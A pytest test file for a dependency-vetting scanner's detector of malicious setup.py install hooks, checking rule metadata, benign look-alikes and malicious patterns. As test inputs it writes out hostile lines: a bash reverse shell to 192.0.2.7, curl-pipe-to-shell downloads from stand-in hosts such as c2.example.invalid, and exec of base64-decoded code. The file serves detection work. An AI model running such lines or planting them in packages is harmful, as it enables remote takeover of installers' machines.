"""The setup.py install-hook rules."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from depvet.detectors import setup_hooks
from depvet.detectors.setup_hooks import SetupHookDetector
from depvet.files import FileRole, FileView
from depvet.model import Finding, RuleKind
from tests.detectors import fixtures as fx

DETECTOR = SetupHookDetector()
THREATS = {r.id for r in setup_hooks.RULES if r.kind is RuleKind.THREAT}


def _scan(text: str) -> list[Finding]:
    file = fx.setup_py(text)
    assert DETECTOR.wants(file)
    return list(DETECTOR.scan(file))


def _rules(text: str) -> set[str]:
    return {f.rule for f in _scan(text)}


def _lines(text: str, rule: str) -> list[int | None]:
    return [f.line for f in _scan(text) if f.rule == rule]


def test_rule_metadata() -> None:
    for rule in DETECTOR.rules:
        assert rule.id.startswith("setup-")
        assert rule.description and rule.remediation and rule.technique.startswith("Install")
        assert rule.version >= 1
    assert {
        "setup-install-network",
        "setup-install-shell-download",
        "setup-install-side-command",
        "setup-install-decode-exec",
    } == THREATS


@pytest.mark.parametrize("role", [r for r in FileRole if r is not FileRole.SETUP])
def test_wants_only_setup_role(role: FileRole) -> None:
    file = FileView(path="setup.py", role=role, data=fx.SETUP_DECODE_EXEC.encode())
    assert not DETECTOR.wants(file)


# -- benign look-alikes: capabilities at most, never a threat --------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (fx.SETUP_PLAIN, set()),
        (fx.SETUP_EMPTY_CMDCLASS, set()),
        (fx.SETUP_BUILD_EXT_CMAKE, {"setup-cmdclass-override", "setup-install-process"}),
        (fx.SETUP_GIT_DESCRIBE, {"setup-install-process"}),
        (fx.SETUP_GIT_CLONE, {"setup-install-process"}),
        (fx.SETUP_UNCALLED_REQUESTS, set()),
        (fx.SETUP_VERSION_EXEC, set()),
        (fx.SETUP_DECODE_EXEC_UNCALLED, set()),
        (fx.SETUP_VERSIONEER, {"setup-cmdclass-override"}),
        (fx.SETUP_PY2_BENIGN, set()),
    ],
    ids=[
        "plain",
        "empty-cmdclass",
        "cmake-build-ext",
        "git-describe",
        "git-submodule",
        "uncalled-requests",
        "version-exec",
        "uncalled-decode-exec",
        "versioneer",
        "python2-benign",
    ],
)
def test_benign_setup(text: str, expected: set[str]) -> None:
    assert _rules(text) == expected


# -- positives -------------------------------------------------------------------------------


def test_postinstall_curl() -> None:
    findings = _scan(fx.SETUP_POSTINSTALL_CURL)
    assert [(f.rule, f.line) for f in findings] == [
        ("setup-cmdclass-override", 12),
        ("setup-install-process", 9),
        ("setup-install-shell-download", 9),
    ]
    shell = findings[2]
    assert "'curl'" in shell.message and "setuptools command" in shell.message
    assert shell.evidence.startswith('os.system("curl -fsSL https://c2.example.invalid')
    assert findings[0].message == "cmdclass overrides install"


def test_network_in_hook_and_in_called_helper() -> None:
    assert _lines(fx.SETUP_REQUESTS_IN_HOOK, "setup-install-network") == [12]
    findings = [
        f for f in _scan(fx.SETUP_CALLED_HELPER_NETWORK) if f.rule == "setup-install-network"
    ]
    assert [f.line for f in findings] == [6]
    assert "_phone_home()" in findings[0].message


def test_shell_download_through_a_variable() -> None:
    assert _lines(fx.SETUP_WGET_VARIABLE, "setup-install-shell-download") == [5]
    assert _lines(fx.SETUP_POWERSHELL, "setup-install-shell-download") == [5]


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        (fx.SETUP_DECODE_EXEC, 4, "decoded code"),
        (fx.SETUP_DECODE_EXEC_VIA_NAME, 7, "decoded code"),
        (fx.SETUP_EXEC_DOWNLOAD, 4, "downloaded code"),
        (fx.SETUP_EXEC_CHR, 2, "computed at run time"),
    ],
)
def test_decode_exec(text: str, line: int, words: str) -> None:
    (finding,) = [f for f in _scan(text) if f.rule == "setup-install-decode-exec"]
    assert finding.line == line
    assert words in finding.message


def test_exec_compile_of_decoded_is_one_finding_per_line() -> None:
    text = "import base64\nexec(compile(base64.b64decode(b), '<s>', 'exec'))\n"
    assert _lines(text, "setup-install-decode-exec") == [2]


@pytest.mark.parametrize(
    "text",
    [
        "import base64\nexec(base64.b64decode(x), {})\n",
        "import base64 as b\ndef go():\n    eval(b.b64decode(x))\nif __name__ == '__main__':\n"
        "    go()\n",
        "import codecs\nexec(codecs.decode(s, 'rot13'))\n",
    ],
)
def test_decode_exec_variants(text: str) -> None:
    assert "setup-install-decode-exec" in _rules(text)


# -- files that do not parse -----------------------------------------------------------------


def test_python2_dropper() -> None:
    findings = _scan(fx.SETUP_PY2_DOWNLOAD)
    assert {f.rule for f in findings} == {
        "setup-install-network",
        "setup-install-process",
        "setup-install-shell-download",
    }
    assert all("did not parse" in f.message for f in findings)
    shell = next(f for f in findings if f.rule == "setup-install-shell-download")
    assert shell.line == 6 and "'curl'" in shell.message


def test_python2_decode_exec() -> None:
    (finding,) = _scan(fx.SETUP_PY2_DECODE_EXEC)
    assert finding.rule == "setup-install-decode-exec"
    assert finding.line == 3


def test_python2_network_alone_is_not_a_threat() -> None:
    text = 'import urllib2\nprint "x"\ndef f():\n    urllib2.urlopen("https://a.example.invalid")\n'
    assert _rules(text) & THREATS == set()


def test_oversized_setup_uses_text_checks() -> None:
    text = (
        "# "
        + "x" * (5 * 1024 * 1024)
        + "\nimport os\nos.system('wget https://a.example.invalid')\n"
    )
    findings = _scan(text)
    assert {f.rule for f in findings} == {"setup-install-process", "setup-install-shell-download"}
    assert all("too large" in f.message for f in findings)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_never_raises_on_bytes(data: bytes) -> None:
    for finding in DETECTOR.scan(FileView(path="setup.py", role=FileRole.SETUP, data=data)):
        assert finding.rule in {r.id for r in setup_hooks.RULES}


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "import os, base64",
                "from setuptools import setup",
                "from setuptools.command.install import install",
                "class I(install):\n    def run(self):\n        os.system(c)",
                "def f():\n    exec(base64.b64decode(c))",
                "f()",
                "c = 'curl x | sh'",
                "setup(cmdclass={'install': I})",
                'print "py2"',
            ]
        ),
        max_size=8,
    )
)
def test_never_raises_on_setup_shapes(lines: list[str]) -> None:
    for finding in _scan("\n".join(lines) + "\n"):
        assert finding.line is None or finding.line >= 1


def test_unparsable_setup_fetching_at_top_level_is_a_threat() -> None:
    text = (
        "from distutils.core import setup\nsetup(\n  name = 'x'\n  version = '0.1'\n)\n"
        "import urllib.request\n"
        "with urllib.request.urlopen('https://logger.example.invalid/x') as r:\n"
        "   html = r.read()\n"
    )
    assert "setup-install-network" in _rules(text)


def _first_by_rule(lines: list[str]) -> dict[str, tuple[int, str]]:
    """What the text checks report, stated rule by rule: (line, matched text) of the first hit."""
    near = setup_hooks._TEXT_WINDOW

    def window(index: int) -> list[str]:
        return lines[max(0, index - near) : index + near + 1]

    def first(pattern: re.Pattern[str], texts: list[str]) -> str | None:
        return next((m.group(0) for m in map(pattern.search, texts) if m), None)

    has_exec = any(
        setup_hooks._TEXT_EXEC.search(t) or setup_hooks._TEXT_PROCESS.search(t) for t in lines
    )
    expected: dict[str, tuple[int, str]] = {}
    for index, text in enumerate(lines):
        hits = {
            "setup-install-network": (has_exec or not text[:1].isspace())
            and first(setup_hooks._TEXT_NETWORK, [text]),
            "setup-install-process": first(setup_hooks._TEXT_PROCESS, [text]),
            "setup-install-shell-download": first(setup_hooks._TEXT_PROCESS, [text])
            and first(setup_hooks.SHELL_DOWNLOAD, [text, *window(index)]),
            "setup-install-decode-exec": first(setup_hooks._TEXT_EXEC, [text])
            and first(setup_hooks._TEXT_DECODE, window(index)),
        }
        for rule, hit in hits.items():
            if hit and rule not in expected:
                expected[rule] = (index + 1, hit)
    return expected


# Lines of a setup.py that does not parse: calls, blobs and decoders, near and far apart.
_PY2_LINES = (
    'print "py2"',
    "import os, base64, urllib2",
    "    os.system(c)",
    "os.popen('ls')",
    "c = 'curl x | sh'",
    "    u = urllib2.urlopen(url)",
    "urllib2.urlopen(url)",
    "exec base64.b64decode(c)",
    "    eval(s)",
    "s = c.decode('base64')",
    "",
    "x = 1",
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PY2_LINES), max_size=14))
def test_text_checks_report_the_first_hit_of_each_rule(lines: list[str]) -> None:
    text = 'print "this setup.py is Python 2"\n' + "\n".join(lines) + "\n"
    findings = _scan(text)
    assert all("did not parse" in f.message for f in findings)
    expected = _first_by_rule(text.splitlines())
    assert {f.rule: f.line for f in findings} == {r: line for r, (line, _) in expected.items()}
    for finding in findings:
        if finding.rule == "setup-install-shell-download":
            assert repr(expected[finding.rule][1]) in finding.message


_PATTERN_PIECES = (
    *(word for needs in setup_hooks.TEXT_NEEDS.values() for word in needs),
    *("(", " ", "'", '"', "base64", "hex", "get", "x", ".", "b64", "32", "\n", "_", "ile"),
)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_PATTERN_PIECES), max_size=12).map("".join))
def test_text_patterns_only_match_lines_holding_a_needed_word(text: str) -> None:
    for pattern, needs in setup_hooks.TEXT_NEEDS.items():
        if pattern.search(text) is not None:
            assert any(word in text for word in needs), (pattern.pattern, text)


@pytest.mark.parametrize(
    "line",
    [
        "urllib.request.urlopen (u)",
        "requests.post(u)",
        "http.client.HTTPSConnection(h)",
        "socket.socket (a, b)",
        "x = Popen([c])",
        "os.spawnlp(0, c)",
        "commands.getoutput(c)",
        "exec 'code'",
        "execfile(f)",
        "eval (s)",
        "s.decode( 'rot13')",
        "b85decode(s)",
        "marshal.loads(s)",
    ],
)
def test_needed_words_cover_the_patterns(line: str) -> None:
    matched = [p for p in setup_hooks.TEXT_NEEDS if p.search(line)]
    assert matched, line
    for pattern in matched:
        assert any(word in line for word in setup_hooks.TEXT_NEEDS[pattern])


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("curl -fsSL https://example.invalid/x.sh", "curl"),
        ("C:/tools/curl.exe -o a.exe", "curl"),
        ("/usr/bin/wget -q x", "wget"),
        ("./deps/bin/curl-config --static-libs", None),  # another program
        ("pip download python-wget", None),
        # A shell given one plain command (deepspeed reads its git hash so): the line
        # is judged, not the shell. A reverse shell or a line decoded first is a threat.
        ('bash -c "git rev-parse --short HEAD"', None),
        ("bash -c type git", None),
        ("bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'", "bash -i"),
        ("sh -c 'exec 3<>/dev/tcp/192.0.2.7/80'", "/dev/tcp/"),
        ("bash -c 'until echo > /dev/tcp/localhost/8080; do sleep 1; done'", None),
        ('bash -c "$(echo Y3VybCBldmls | base64 -d)"', "base64 -d"),
    ],
)
def test_shell_download_names_the_program(command: str, program: str | None) -> None:
    match = setup_hooks.SHELL_DOWNLOAD.search(command)
    assert (match.group(0) if match else None) == program


_DEPLOY = """\
import os
from setuptools import Command, setup


class Deploy(Command):
    name = "deploy"
    alias = "install"
    user_options = []

    def initialize_options(self): pass
    def finalize_options(self): pass

    def run(self):
        os.system("curl -fsSL https://example.invalid/release.sh | sh")


setup(name="tool", cmdclass={CMDCLASS})
"""


@pytest.mark.parametrize(
    ("cmdclass", "runs"),
    [
        ("'deploy': Deploy", False),  # only `python setup.py deploy`, by hand
        ("'sdist': Deploy", False),  # making the archive: installing it builds a wheel
        ("'install': Deploy", True),  # pip runs install
        ("'deploy': Deploy, 'build_py': Deploy", True),
        ("**extra_commands(), 'deploy': Deploy", True),  # not every class readable: assume it runs
        ("Deploy.name: Deploy", False),  # the class names itself "deploy"
        ("Deploy.alias: Deploy", True),  # ... or "install"
        ("Deploy.unknown: Deploy", True),  # a name nobody can read: assume it runs
    ],
)
def test_a_command_only_a_person_runs_is_no_install_hook(cmdclass: str, runs: bool) -> None:
    text = _DEPLOY.replace("{CMDCLASS}", "{" + cmdclass + "}")
    if "extra_commands" in cmdclass:
        text = text.replace(
            "setup(",
            "class Extra(Command):\n    pass\n\n\n"
            "def extra_commands():\n    return {'x': Extra}\n\n\nsetup(",
        )
    rules = _rules(text)
    assert ("setup-install-process" in rules) is runs
    assert ("setup-install-shell-download" in rules) is runs
    assert "setup-cmdclass-override" in rules  # the override itself is still reported


_GROWN = """\
import os
import versioneer
from setuptools import Command, setup


class Refresh(Command):
    user_options = []

    def initialize_options(self): pass
    def finalize_options(self): pass

    def run(self):
        os.system("curl -fsSL https://example.invalid/libfoo.7z -o build/libfoo.7z")


cmdclass = {START}
cmdclass[{NAME}] = Refresh
setup(name="tool", version=versioneer.get_version(), cmdclass=cmdclass)
"""


@pytest.mark.parametrize(
    ("start", "name", "runs"),
    [
        ("versioneer.get_cmdclass()", "'update_libfoo'", False),  # a maintainer's command
        ("{}", "'update_libfoo'", False),
        ("versioneer.get_cmdclass()", "'build_ext'", True),  # pip builds extensions
        ("versioneer.get_cmdclass()", "key", True),  # a name not written out
        ("commands()", "'update_libfoo'", True),  # a function of this file: not read
        ("versioneer.get_cmdclass(locals())", "'update_libfoo'", True),
    ],
)
def test_a_command_stored_by_name_in_a_grown_cmdclass(start: str, name: str, runs: bool) -> None:
    text = _GROWN.replace("{START}", start).replace("{NAME}", name)
    if start == "commands()":
        text = text.replace(
            "cmdclass = ", "def commands():\n    return {'install': Refresh}\n\n\ncmdclass = "
        )
    if name == "key":
        text = text.replace("cmdclass[key]", "key = os.environ['CMD']\ncmdclass[key]")
    rules = _rules(text)
    assert ("setup-install-process" in rules) is runs
    assert ("setup-install-shell-download" in rules) is runs


_TAGGED = """\
import subprocess
from setuptools import setup

METADATA = dict(name="tool", version="1.0", url="https://example.invalid/tool")
METADATA["version"] += ".post1"
SOURCES = {"mirror": "https://example.invalid/tool.tar.gz", "tool": "tool"}
subprocess.check_call(["git", "tag", "v" + {READ}])
setup(**METADATA)
"""


@pytest.mark.parametrize(
    ("read", "downloads"),
    [
        ('METADATA["version"]', False),  # one key: the URL beside it is not in the command
        ('METADATA["url"]', True),
        ("METADATA[key]", True),  # a key not written out: any value
        ('SOURCES["mirror"]', True),
        ('SOURCES["tool"]', False),
    ],
)
def test_a_command_sees_only_the_dict_item_it_reads(read: str, downloads: bool) -> None:
    text = _TAGGED.replace("{READ}", read)
    if "[key]" in read:
        text = text.replace("import subprocess", "import subprocess, sys\nkey = sys.argv[1]")
    assert ("setup-install-shell-download" in _rules(text)) is downloads
